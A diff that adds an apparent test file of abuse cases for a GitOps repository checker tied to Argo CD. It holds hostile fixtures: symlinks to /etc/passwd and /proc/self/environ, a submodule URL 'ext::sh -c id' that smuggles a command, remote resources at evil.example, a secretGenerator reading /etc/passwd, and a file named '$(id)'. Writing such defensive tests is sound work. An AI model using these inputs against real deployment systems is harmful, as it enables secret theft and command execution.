@@ -1,0 +1,20 @@
+// Repositories that are more than text files where text files should be.
+import { FOLDER, fresh, server, type AbuseCase } from './case.ts';
+
+const file = (name: string) => `${FOLDER}/${name}`;
+const make = (name: string, files: AbuseCase['files'], className = 'repository'): AbuseCase => ({ class: className, name, files });
+const role = (name: string) => `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: ${name}\nrules: []\n`;
+
+export const repository: readonly AbuseCase[] = [
+  ...[['the machine\'s passwords', '/etc/passwd'], ['a file above the repository', '../../../../etc/passwd'], ['the repository\'s own settings', '../../.git/config'], ['a folder of the machine', '/'], ['Argo CD\'s own memory', '/proc/self/environ'], ['nothing', 'not-there'], ['a file of the repository', '../../README.md'], ['itself', 'loop.yaml']]
+    .map(([what = '', link = '']) => make(`a link to ${what}`, { [file(link === 'loop.yaml' ? 'loop.yaml' : `${fresh()}.yaml`)]: { link } }, 'links')),
+  make('a link outside of the servers', { 'docs/passwd': { link: '/etc/passwd' } }, 'links'), make('a folder that is a link', { 'clusters/remote': { link: '/etc' } }, 'links'),
+  make('a submodule among the servers', { [file(`${fresh()}.yaml`)]: { submodule: '1'.repeat(40) }, '.gitmodules': '[submodule "x"]\n\tpath = x\n\turl = http://evil.example/x.git\n' }), make('a submodule with a command for an address', { 'x': { submodule: '2'.repeat(40) }, '.gitmodules': '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c id\n' }),
+  make('a pointer of LFS', { [file(`${fresh()}.yaml`)]: `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12345\n` }), make('attributes that filter', { '.gitattributes': '*.yaml filter=evil diff=evil\n', [file(`${fresh()}.yaml`)]: role('a') }),
+  make('a server of a megabyte', { [file(`${fresh()}.yaml`)]: `${server('x')}# ${'x'.repeat(1_048_576)}\n` }), make('a server of 300,000 letters', { [file(`${fresh()}.yaml`)]: `${server('x')}# ${'y'.repeat(300_000)}\n` }), make('1,500 servers at once', Object.fromEntries(Array.from({ length: 1_500 }, (_, i) => [file(`flood-${i}.yaml`), server(`flood-${i}`)]))),
+  make('a file 40 folders deep', { [file(`${'d/'.repeat(40)}x.yaml`)]: role('deep') }), make('a ClusterRole in a folder', { [file(`more/${fresh()}.yaml`)]: role('b') }, 'not looked at'), make('a ClusterRole named .yml', { [file(`${fresh()}.yml`)]: role('c') }, 'not looked at'), make('a ClusterRole named .YAML', { [file(`${fresh()}.YAML`)]: role('d') }, 'not looked at'), make('a ClusterRole named .json', { [file(`${fresh()}.json`)]: JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'e' } }) }, 'not looked at'),
+  make('a ClusterRole for another cluster', { 'clusters/moon/x.yaml': role('f') }, 'not looked at'), make('a Chart', { [file('Chart.yaml')]: 'apiVersion: v2\nname: evil\nversion: 1.0.0\n', [file('templates/x.yaml')]: role('g') }, 'tools'), make('a kustomization', { [file('kustomization.yaml')]: 'resources: [http://evil.example/x.yaml]\n' }, 'tools'), make('a kustomization that reads the machine', { [file('kustomization.yaml')]: 'secretGenerator: [{name: x, files: [/etc/passwd]}]\n' }, 'tools'),
+  make('a jsonnet', { [file('x.jsonnet')]: 'std.extVar("x")\n' }, 'not looked at'), make('a plugin', { [file('plugin.yaml')]: 'apiVersion: argoproj.io/v1alpha1\nkind: ConfigManagementPlugin\nmetadata: {name: x}\nspec: {generate: {command: [id]}}\n' }, 'tools'), make('overrides of Argo CD', { [file('.argocd-source.yaml')]: 'directory: {recurse: true}\n' }, 'tools'), make('overrides for its Application', { [file('.argocd-source-redfox-local.yaml')]: 'plugin: {name: evil}\n' }, 'tools'),
+  ...['Lobby', 'a.b', 'a_b', '-a', 'a-', `a${'b'.repeat(40)}`, 'default', 'kubernetes', 'gitops', 'kube-root-ca', 'ñ', 'a b', '🦊', '%2e%2e', '$(id)'].map((name) => make(`a server named ${name}`, { [file(`${name}.yaml`)]: server(JSON.stringify(name)) }, 'names')),
+  make('a server with another name than its file', { [file(`${fresh()}.yaml`)]: server(fresh()) }, 'style'),
+];
